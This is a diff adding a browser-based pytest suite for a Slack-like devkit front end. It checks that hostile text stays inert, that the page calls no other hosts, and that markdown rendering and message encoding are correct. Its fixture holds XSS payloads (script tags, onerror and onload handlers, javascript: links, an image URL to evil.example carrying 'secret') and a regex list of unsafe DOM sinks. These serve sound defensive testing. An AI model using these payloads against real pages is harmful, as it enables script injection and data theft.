@@ -1,0 +1,166 @@
+"""The page's own rules: nothing untrusted becomes markup, and its text renderers, in a real browser."""
+
+from __future__ import annotations
+
+import re
+import shutil
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from aiohttp import web
+from aiohttp.test_utils import TestServer
+from playwright.async_api import Page, async_playwright
+
+STATIC = Path(__file__).parents[2] / "devkit" / "slack" / "static"
+MODULES = sorted(STATIC.glob("js/*.js"))
+SHEETS = sorted(STATIC.glob("css/*.css"))
+MARKUP_FROM_TEXT = re.compile(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function")
+
+STORE = """{
+  me: "U0ANA00001", usergroups: [], channel: () => null,
+  people: new Map([
+    ["U0ANA00001", {id: "U0ANA00001", name: "ana", real_name: "Ana Ruiz"}],
+    ["U0COUNTER1", {id: "U0COUNTER1", name: "countersign", real_name: "Countersign", is_bot: true}],
+  ]),
+}"""
+
+HOSTILE = """# <img src=x onerror=alert(1)>
+<script>alert(1)</script> [click](javascript:alert(1)) ![pixel](https://evil.example/?q=secret)
+`<b>` <javascript:alert(1)|ok> **<i>bold</i>** <@U0ANA00001>
+> <svg onload=alert(1)>
+
+| <u>head</u> | b |
+|---|---|
+| <a href="javascript:alert(1)">x</a> | y |
+"""
+
+ANSWER = """## Refund done
+
+I refunded **29.00 USD** on `INV-1003`.
+
+1. looked up
+   - amount
+   - *date*
+2. asked
+
+| Invoice | Amount |
+|:--|--:|
+| INV-1003 | 29.00 |
+
+> quoted
+
+```python
+print("<b>")
+```
+
+See [the docs](https://example.com/a_(b)).
+"""
+
+
+@pytest.fixture
+async def page() -> AsyncIterator[Page]:
+    """A browser page that can import the modules but does not run the application."""
+    app = web.Application()
+    app.router.add_static("/static", STATIC)
+    app.router.add_get("/", _blank)
+    async with TestServer(app) as server, async_playwright() as playwright:
+        browser = await playwright.chromium.launch(executable_path=_chromium(), args=["--no-sandbox"])
+        opened = await browser.new_page()
+        await opened.goto(str(server.make_url("/")))
+        yield opened
+        await browser.close()
+
+
+async def _blank(_: web.Request) -> web.Response:
+    return web.Response(text="<!doctype html><title>blank</title>", content_type="text/html")
+
+
+def _chromium() -> str | None:
+    return shutil.which("chromium") or shutil.which("google-chrome")
+
+
+async def _evaluate(page: Page, module: str, body: str, argument: object = None) -> Any:
+    script = f"""async (argument) => {{
+      const module = await import("/static/js/{module}.js");
+      const store = {STORE};
+      {body}
+    }}"""
+    return await page.evaluate(script, argument)
+
+
+@pytest.mark.parametrize("path", MODULES, ids=lambda path: path.name)
+def test_a_module_is_small_and_never_makes_markup_from_text(path: Path) -> None:
+    source = path.read_text()
+
+    assert not MARKUP_FROM_TEXT.search(source)
+    assert len(source.splitlines()) < 250
+
+
+def test_the_page_asks_nothing_of_other_hosts_and_holds_no_inline_script() -> None:
+    html = (STATIC / "index.html").read_text()
+
+    assert not re.search(r"""(src|href)=["'](?!/static/)""", html)
+    assert not re.search(r"<script(?![^>]*src=)|\son\w+=|\sstyle=", html)
+    assert not any(re.search(r"url\(|@import", sheet.read_text()) for sheet in SHEETS)
+
+
+@pytest.mark.parametrize("language", ["markdown", "mrkdwn"])
+async def test_hostile_text_stays_text(page: Page, language: str) -> None:
+    body = f"""
+      const box = document.createElement("div");
+      box.append(...module.{language}(argument, store));
+      const bad = box.querySelectorAll("img, script, svg[onload], iframe, u, i, [onerror], a[href^='javascript']");
+      return [bad.length, box.textContent];
+    """
+
+    bad, text = await _evaluate(page, language, body, HOSTILE)
+
+    assert bad == 0
+    assert "<script>alert(1)</script>" in text
+    assert "@Ana Ruiz" in text
+
+
+async def test_an_unfinished_answer_renders_at_every_length(page: Page) -> None:
+    body = """
+      const box = document.createElement("div");
+      for (let length = 0; length <= argument.length; length += 1)
+        box.replaceChildren(...module.markdown(argument.slice(0, length), store));
+      const links = [...box.querySelectorAll("a")].map((link) => link.getAttribute("href"));
+      return [["h4", "strong", "ol > li", "ol ul > li", "td", "blockquote", "pre"]
+        .map((selector) => box.querySelectorAll(selector).length), links];
+    """
+
+    counts, links = await _evaluate(page, "markdown", body, ANSWER)
+
+    assert counts == [1, 1, 2, 2, 2, 1, 1]
+    assert links == ["https://example.com/a_(b)"]
+
+
+@pytest.mark.parametrize(
+    ("typed", "sent"),
+    [
+        ("@countersign refund $29", "<@U0COUNTER1> refund $29"),
+        ("ask @Ana Ruiz or @ana-maria", "ask <@U0ANA00001> or @ana-maria"),
+        ("mail a@countersign <b> & co", "mail a@countersign &lt;b&gt; &amp; co"),
+        ("see https://a.example/x?y=1&z=2.", "see <https://a.example/x?y=1&amp;z=2>."),
+        ("@here", "<!here>"),
+    ],
+)
+async def test_what_is_typed_is_sent_as_slack_sends_it(page: Page, typed: str, sent: str) -> None:
+    assert await _evaluate(page, "outgoing", "return module.encodeMessage(argument, store);", typed) == sent
+
+
+async def test_patching_keeps_every_node_that_did_not_change(page: Page) -> None:
+    body = """
+      const draw = (text) => module.h("div", {}, module.h("p", {}, "same"), module.h("p", {}, text), module.h("input"));
+      const shown = draw("old");
+      document.body.append(shown);
+      const [same, changed, input] = shown.children;
+      input.value = "typed";
+      module.patch(shown, draw("new"));
+      return [shown.children[0] === same, shown.children[1] === changed, changed.textContent, shown.children[2].value];
+    """
+
+    assert await _evaluate(page, "dom", body) == [True, True, "new", "typed"]
